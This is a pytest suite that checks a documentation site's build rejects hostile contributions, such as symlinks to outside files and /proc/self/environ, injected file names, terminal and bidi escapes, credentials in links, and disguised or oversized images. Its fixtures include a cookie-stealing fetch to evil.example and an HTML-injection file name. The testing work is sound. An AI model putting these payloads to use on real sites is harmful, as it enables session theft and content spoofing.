"""What a contribution can put in: file names, YAML, characters, images, links and sheer size.

Each case builds a copy of the fixture site with `make build`'s script, and checks the exit code,
a message naming the file (and its line where the file has lines), that no traceback was
printed, that nothing from outside the repository was published, and that a failed build left
the published site exactly as it was. Preview cases build as `make serve` does, with a content
problem present, and check the preview publishes nothing the build would refuse.
"""

from __future__ import annotations

import os
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from PIL import Image

from macros.problems import ContentError, printable

from sites import (
    ENV,
    ROOT,
    fingerprint,
    fixture_project,
    fixture_text,
    page_with,
    preview_build,
    replace,
)
from sites import publish as publish_site

pytestmark = pytest.mark.slow

PAGE = "docs/chapter-one/first-page.md"
EXAMPLE = "data/examples/illustrative-example.yml"
REPORT = "data/reports/test-report.yml"
ORGANISATION = "data/organisations/test-council.yml"
SECRET = "OUTSIDE-THE-REPOSITORY-51d0e2"  # noqa: S105 (not a password) the text of an outside file
BROKEN = {"data/examples/broken.yml": "id: broken\n"}  # a content problem: preview shows the report
THEME_SCRIPT = ROOT / "overrides" / "assets" / "javascripts" / "filters.js"
NAV = [
    {"Home": "index.md"},
    {"Chapter one": ["chapter-one/index.md", "chapter-one/first-page.md"]},
    {"Practice examples": "examples/index.md"},
    {"Themes": "themes/index.md"},
    {"Reports": "reports/index.md"},
    {"Glossary": "glossary.md"},
]

Check = Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    """Files to write or link; the file the message must name; or a check on a finished site."""

    name: str
    file: str  # as the report prints it ("" when the build must succeed)
    files: dict[str, str | bytes] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)  # path -> target ("OUTSIDE/..." or abs)
    remove: tuple[str, ...] = ()
    has_line: bool = True
    check: Check | None = None
    preview: bool = False  # built as `make serve` builds, with a content problem present
    pdf: bool = False
    nav: list[object] | None = None


def png(width: int, height: int) -> bytes:
    """Return a PNG that says it is `width` x `height` pixels, in a few hundred bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def image(kind: str) -> bytes:
    """Return a small real image of the given Pillow type."""
    out = BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, kind)
    return out.getvalue()


def front(old: str, new: str) -> dict[str, str | bytes]:
    """Return the guidance page with one front-matter line replaced."""
    return {PAGE: replace(PAGE, old, new)}


def example(old: str, new: str) -> dict[str, str | bytes]:
    """Return the illustrative example with one line replaced."""
    return {EXAMPLE: replace(EXAMPLE, old, new)}


TITLE = "title: First page"
EXAMPLE_TITLE = "title: An illustrative example"


# --- 1. Preview is the build ----------------------------------------------------------------
def _preview() -> list[Case]:
    script = "fetch('https://evil.example/?'+document.cookie)"
    return [
        Case("preview-theme-script-replaced", "docs/assets/javascripts/filters.js",
             {"docs/assets/javascripts/filters.js": script, **BROKEN}, preview=True,
             has_line=False, check=_theme_script_is_the_theme_s),
        Case("preview-linked-outside-file", "docs/chapter-one/secret.png", dict(BROKEN),
             links={"docs/chapter-one/secret.png": "OUTSIDE/secret.txt"}, preview=True,
             has_line=False, check=_lacks("chapter-one/secret.png")),
        Case("preview-linked-environment", "docs/chapter-one/environ.png", dict(BROKEN),
             links={"docs/chapter-one/environ.png": "/proc/self/environ"}, preview=True,
             has_line=False, check=_lacks("chapter-one/environ.png")),
        Case("preview-html-file", "docs/evil.html", {"docs/evil.html": f"<script>{script}"
             "</script>", **BROKEN}, preview=True, has_line=False, check=_lacks("evil.html")),
        Case("preview-host-settings", "docs/_headers", {"docs/_headers": "/*\n  X: y\n", **BROKEN},
             preview=True, has_line=False, check=_lacks("_headers")),
        Case("preview-docs-folder-linked", "docs", links={"docs": "OUTSIDE/pages"},
             remove=("docs",), preview=True, has_line=False, check=_lacks("page/index.html")),
        Case("preview-data-folder-linked", "data", links={"data": "OUTSIDE/data"},
             remove=("data",), preview=True, has_line=False, check=_lacks("examples/x/index.html")),
    ]  # fmt: skip


def _theme_script_is_the_theme_s(site: Path) -> None:
    assert (site / "assets/javascripts/filters.js").read_bytes() == THEME_SCRIPT.read_bytes()


def _lacks(relative: str) -> Check:
    def check(site: Path) -> None:
        assert not (site / relative).exists()
        assert (site / "index.html").is_file()  # the report is there to read

    return check


# --- 2. The folders themselves --------------------------------------------------------------
def _roots() -> list[Case]:
    return [
        Case("docs-folder-is-a-link", "docs", links={"docs": "OUTSIDE/pages"}, remove=("docs",),
             has_line=False),
        Case("data-folder-is-a-link", "data", links={"data": "OUTSIDE/data"}, remove=("data",),
             has_line=False),
        Case("data-folder-is-a-link-to-a-copy", "data", links={"data": "COPY/data"},
             remove=("data",), has_line=False),
    ]  # fmt: skip


# --- 3. Names are data ----------------------------------------------------------------------
def _names() -> list[Case]:
    page = fixture_text(PAGE)
    quote = 'docs/chapter-one/c"><meta http-equiv="refresh" content="0;url=https:evil">.md'
    forged = "docs/chapter-one/x\nIn docs:\n  - line 1: all is well.md"
    ansi = "docs/chapter-one/\x1b[2J\x1b[31mx.md"
    bidi = "docs/chapter-one/safe\u202egnp.md"
    return [
        Case("page-name-with-quote", printable(quote), {quote: page}, has_line=False),
        Case("page-name-with-capitals", "docs/chapter-one/First-Page.md",
             {"docs/chapter-one/First-Page.md": page}, has_line=False),
        Case("page-name-with-space", "docs/chapter-one/my page.md",
             {"docs/chapter-one/my page.md": page}, has_line=False),
        Case("page-name-with-accent", "docs/chapter-one/café.md",
             {"docs/chapter-one/café.md": page}, has_line=False),
        Case("page-name-with-newline", printable(forged), {forged: page}, has_line=False),
        Case("page-name-with-terminal-escape", printable(ansi), {ansi: page}, has_line=False),
        Case("page-name-with-bidi-control", printable(bidi), {bidi: page}, has_line=False),
        Case("folder-name-with-capitals", "docs/Chapter-Two",
             {"docs/Chapter-Two/page.md": page}, has_line=False),
        Case("image-name-upper-case-ending", "docs/chapter-one/picture.PNG",
             {"docs/chapter-one/picture.PNG": image("PNG")}, has_line=False),
        Case("record-file-name-with-capitals", "data/examples/Illustrative.yml",
             {"data/examples/Illustrative.yml": fixture_text(EXAMPLE)}, has_line=False),
        Case("hand-written-page-at-record-address",
             "docs/examples/illustrative-example/index.md",
             {"docs/examples/illustrative-example/index.md": page}, has_line=False),
        Case("two-pages-one-address", "docs/chapter-one/first-page/index.md",
             {"docs/chapter-one/first-page/index.md": page}, has_line=False),
    ]  # fmt: skip


# --- 4. Types YAML guesses, and keys given twice --------------------------------------------
def _yaml() -> list[Case]:
    return [
        Case("title-is-a-timestamp", PAGE, front(TITLE, "title: 2026-01-01 10:00:00")),
        Case("title-is-a-number", PAGE, front(TITLE, "title: 2026")),
        Case("title-is-yes", PAGE, front(TITLE, "title: yes")),
        Case("description-is-a-date", PAGE, front(
            "description: A guidance page for the test suite.", "description: 2026-01-01")),
        Case("boost-is-text", PAGE, front(TITLE, f'{TITLE}\nsearch:\n  boost: "2"')),
        Case("boost-is-nan", PAGE, front(TITLE, f"{TITLE}\nsearch:\n  boost: .nan")),
        Case("boost-is-infinite", PAGE, front(TITLE, f"{TITLE}\nsearch:\n  boost: .inf")),
        Case("record-title-is-a-number", EXAMPLE, example(EXAMPLE_TITLE, "title: 12")),
        Case("record-title-is-a-timestamp", EXAMPLE, example(
            EXAMPLE_TITLE, "title: 2026-01-01 10:00:00"), check=_example_title(
                "2026-01-01 10:00:00")),
        Case("front-matter-key-twice", PAGE, front(TITLE, f"{TITLE}\ntitle: Second title")),
        Case("record-key-twice", EXAMPLE, example(
            "summary: A made-up housing team shows the idea.",
            "summary: A made-up housing team shows the idea.\nsummary: Another.")),
        Case("nested-key-twice", REPORT, {REPORT: replace(
            REPORT, "  guidance: [chapter-one/first-page.md]",
            "  guidance: [chapter-one/first-page.md]\n  guidance: []")}),
        Case("quoted-key-twice", ORGANISATION, {ORGANISATION: fixture_text(ORGANISATION)
             + '"id": other\n'}),
    ]  # fmt: skip


def _example_title(title: str) -> Check:
    """A timestamp in a record is only text: it is published exactly as written."""

    def check(site: Path) -> None:
        html = (site / "examples/illustrative-example/index.html").read_text(encoding="utf-8")
        heading = BeautifulSoup(html, "html.parser").find("h1")
        assert heading is not None
        assert heading.get_text(strip=True).rstrip("\u00b6") == title

    return check


# --- 5. Characters that hide, reorder or forge ----------------------------------------------
def _characters() -> list[Case]:
    return [
        Case("title-bidi-override", PAGE, front(TITLE, 'title: "First \\u202Eegap"')),
        Case("title-zero-width-space", PAGE, front(TITLE, 'title: "First\\u200Bpage"')),
        Case("record-title-bidi-isolate", EXAMPLE, example(
            EXAMPLE_TITLE, 'title: "An \\u2066illustrative\\u2069 example"')),
        Case("record-title-bell", EXAMPLE, example(EXAMPLE_TITLE, 'title: "An \\a example"')),
        Case("organisation-name-zero-width-joiner", ORGANISATION, {ORGANISATION: replace(
            ORGANISATION, "name: Test Council", 'name: "Test\\u200DCouncil"')}),
        Case("record-id-zero-width", "data/examples/illustrative-example.yml", example(
            "id: illustrative-example", 'id: "illustrative-\\u200Bexample"')),
    ]  # fmt: skip


# --- 6. Credentials in addresses ------------------------------------------------------------
def _credentials() -> list[Case]:
    return [
        Case("page-link-with-password", PAGE, {PAGE: page_with(
            PAGE, "[the form](https://editor:hunter2@example.org/form)")}),
        Case("page-bare-address-with-user", PAGE, {PAGE: page_with(
            PAGE, "See <https://editor@example.org/>.")}),
        Case("record-address-with-password", REPORT, {REPORT: replace(
            REPORT, "url: https://example.org/report",
            "url: https://editor:hunter2@example.org/report")}),
        Case("record-markdown-link-with-password", EXAMPLE, example(
            "context: The context.", "context: '[form](https://a:b@example.org/)'"),
             has_line=False),
    ]  # fmt: skip


# --- 7. Images are what their names say, and of a size a reader can show ---------------------
def _images() -> list[Case]:
    named = "docs/chapter-one/picture.png"
    return [
        Case("program-saved-as-png", named, {named: b"MZ\x90\x00\x03" + b"\0" * 200},
             has_line=False),
        Case("html-saved-as-gif", "docs/chapter-one/picture.gif", {
            "docs/chapter-one/picture.gif": "<script>alert(1)</script>"}, has_line=False),
        Case("jpeg-saved-as-png", named, {named: image("JPEG")}, has_line=False),
        Case("png-of-13000-by-13000", named, {named: png(13_000, 13_000)}, has_line=False),
        Case("png-of-40000-by-40000", named, {named: png(40_000, 40_000)}, has_line=False),
        Case("empty-webp", "docs/chapter-one/picture.webp",
             {"docs/chapter-one/picture.webp": b""}, has_line=False),
        Case("chapter-page-image-in-pdf", "", {
            named: image("PNG"), PAGE: page_with(PAGE, "![A plain white square](picture.png)")},
             pdf=True, check=_pdf_made),
    ]  # fmt: skip


def _pdf_made(site: Path) -> None:
    assert (site / "pdf" / "chapter-one.pdf").stat().st_size > 1000


# --- 8. Output: no small input grows into a large site -------------------------------------
MANY = 20  # examples added, so one example_list() call writes a long list
LONG_SUMMARY = (
    "A made-up team shows the idea, " + "with more words to say what it did, " * 6 + "end."
)


def _many_examples() -> dict[str, str | bytes]:
    text = fixture_text(EXAMPLE)
    return {
        f"data/examples/added-example-{n}.yml": text.replace(
            "illustrative-example", f"added-example-{n}"
        )
        .replace("An illustrative example", f"Added example {n}")
        .replace("A made-up housing team shows the idea.", LONG_SUMMARY)
        for n in range(MANY)
    }


def _output() -> list[Case]:
    calls = '{{ example_list(theme="risk") }}\n\n'
    big_pages = {
        f"docs/chapter-one/wide-{n}.md": replace(PAGE, TITLE, f"title: Wide page {n}")
        + "\n"
        + calls * 150  # each list is bounded (10 and a link), so many calls a page
        for n in range(14)
    }
    nav = [
        *NAV[:1],
        {
            "Chapter one": [
                "chapter-one/index.md",
                "chapter-one/first-page.md",
                *(path.removeprefix("docs/") for path in big_pages),
            ]
        },
        *NAV[2:],
    ]
    return [
        Case("one-page-expands-too-far", PAGE,
             {**_many_examples(), PAGE: page_with(PAGE, calls * 190)}, has_line=False),
        Case("site-outgrows-its-content", "docs/chapter-one/wide-0.md",
             {**_many_examples(), **big_pages}, has_line=False, nav=nav),
        Case("mermaid-fence-stays-code", "", {PAGE: page_with(
            PAGE, "```mermaid\ngraph TD; A-->B\n```")}, check=_no_mermaid),
    ]  # fmt: skip


def _no_mermaid(site: Path) -> None:
    html = (site / "chapter-one/first-page/index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.select_one("article code") is not None
    assert soup.select(".mermaid, #mermaid") == []


# --- 9. Nesting measured over the whole text ------------------------------------------------
def _nesting() -> list[Case]:
    return [
        Case("quote-list-on-one-line", PAGE, {PAGE: page_with(PAGE, "> - " * 60 + "x")}),
        Case("list-markers-on-one-line", PAGE, {PAGE: page_with(PAGE, "- " * 200 + "x")}),
        Case("numbered-and-quoted-on-one-line", PAGE, {PAGE: page_with(PAGE, "1. > " * 40 + "x")}),
        Case("nested-html-under-tag-limit", PAGE, {PAGE: page_with(
            PAGE, "<div markdown>\n" * 120 + "x\n" + "</div>\n" * 120)}),
        Case("html-and-markers-together", PAGE, {PAGE: page_with(
            PAGE, "<div markdown>\n" * 20 + "> - " * 8 + "x\n" + "</div>\n" * 20)}),
        Case("record-field-nests-on-one-line", EXAMPLE, example(
            'try_it_yourself: "- Try it."', 'try_it_yourself: "' + "> - " * 30 + 'x"'),
             has_line=False),
    ]  # fmt: skip


CLASSES: dict[str, Callable[[], list[Case]]] = {
    "preview": _preview,
    "roots": _roots,
    "names": _names,
    "yaml": _yaml,
    "characters": _characters,
    "credentials": _credentials,
    "images": _images,
    "output": _output,
    "nesting": _nesting,
}
CASES = [(kind, case) for kind, make in CLASSES.items() for case in make()]


def test_cases_are_many_and_distinct() -> None:
    assert len(CASES) >= 50
    assert len({case.name for _, case in CASES}) == len(CASES)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A good build of the fixture site, to check that a failed build leaves it alone."""
    folder = tmp_path_factory.mktemp("published")
    project = fixture_project(folder / "project")
    assert publish_site(project, folder / "site", pdf=False, offline=False) == 0
    return folder / "site"


def _outside(folder: Path) -> Path:
    """Files outside the project that a link could try to publish."""
    (folder / "pages").mkdir(parents=True)
    (folder / "secret.txt").write_text(f"{SECRET}\n", encoding="utf-8")
    (folder / "pages" / "page.md").write_text(f"---\ntitle: {SECRET}\n---\n{SECRET}\n")
    (folder / "data" / "examples").mkdir(parents=True)
    (folder / "data" / "examples" / "x.yml").write_text(f"id: x\ntitle: {SECRET}\n")
    return folder


def _holds_secret(folder: Path) -> list[str]:
    environ = [value.encode() for value in os.environ.values() if len(value) > 40][:5]
    return [
        str(path)
        for path in folder.rglob("*")
        if path.is_file()
        and (SECRET.encode() in path.read_bytes() or any(v in path.read_bytes() for v in environ))
    ]


def _write(project: Path, case: Case, outside: Path) -> None:
    for relative in case.remove:
        path = project / relative
        path.rename(project.parent / f"copy-{relative}")  # the repository's own, moved out
    for relative, content in case.files.items():
        path = project / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
    for relative, target in case.links.items():
        path = project / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        where = target.replace("OUTSIDE", str(outside))
        path.symlink_to(where.replace("COPY/", str(project.parent / "copy-")))


@pytest.mark.parametrize(("kind", "case"), CASES, ids=[f"{k}:{c.name}" for k, c in CASES])
def test_hostile_input_is_refused(
    kind: str, case: Case, published: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    del kind
    outside = _outside(tmp_path / "outside")
    project = fixture_project(tmp_path / "project", nav=case.nav)
    _write(project, case, outside)
    if case.preview:
        result = preview_build(project, tmp_path / "preview")
        assert result.returncode == 0, result.output[-3000:]  # `make serve` keeps running
        assert "Traceback" not in result.output, result.output[-3000:]
        assert f"In {case.file}:" in result.output, result.output[-3000:]
        assert _holds_secret(tmp_path / "preview") == []
        assert case.check is not None
        case.check(tmp_path / "preview")
        return
    target = tmp_path / "site"
    shutil.copytree(published, target)
    before = fingerprint(target)
    code = publish_site(project, target, pdf=case.pdf, offline=False)
    printed = "".join(capfd.readouterr())
    assert "Traceback" not in printed, printed[-3000:]
    assert "\x1b[2J" not in printed
    assert _holds_secret(target) == []
    if case.check is not None:
        assert code == 0, printed[-3000:]
        case.check(target)
        return
    assert code != 0
    assert f"In {case.file}:" in printed, printed[-3000:]
    assert "\nIn docs:\n  - line 1: all is well" not in printed
    if case.has_line:
        after = printed.split(f"In {case.file}:", 1)[1].splitlines()[1:2]
        assert after, printed[-2000:]
        assert after[0].startswith("  - line "), after
    assert fingerprint(target) == before


def test_checks_report_a_content_error_without_a_traceback(tmp_path: Path) -> None:
    """`python -m macros.checks` names the file of an ordinary content error, and stops there."""
    project = fixture_project(tmp_path / "project")
    (project / PAGE).write_text(replace(PAGE, TITLE, "title: 2026-01-01 10:00:00"))
    result = subprocess.run(
        [sys.executable, "-m", "macros.checks"],
        cwd=project,
        capture_output=True,
        text=True,
        env={**ENV, "PYTHONPATH": str(ROOT)},
        timeout=300,
        check=False,
    )
    printed = result.stdout + result.stderr
    assert result.returncode == 1, printed[-2000:]
    assert "Traceback" not in printed, printed[-3000:]
    assert f"In {PAGE}:" in printed
    assert "YAML reads this as a date" in printed


def test_a_pdf_step_out_of_stack_names_the_chapter(
    published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Should WeasyPrint still run out of stack, the build names the chapter: no traceback."""
    from macros.pdf import chapters  # noqa: PLC0415 (slow to import)

    def too_deep(*_: object) -> None:
        raise RecursionError

    monkeypatch.setattr(chapters, "render_pdf", too_deep)
    with pytest.raises(ContentError) as error:
        chapters.render_chapters(published.parent / "project", published, tmp_path / "pdf")
    assert "In docs/chapter-one/index.md:" in str(error.value)
    assert "nested too deeply" in str(error.value)
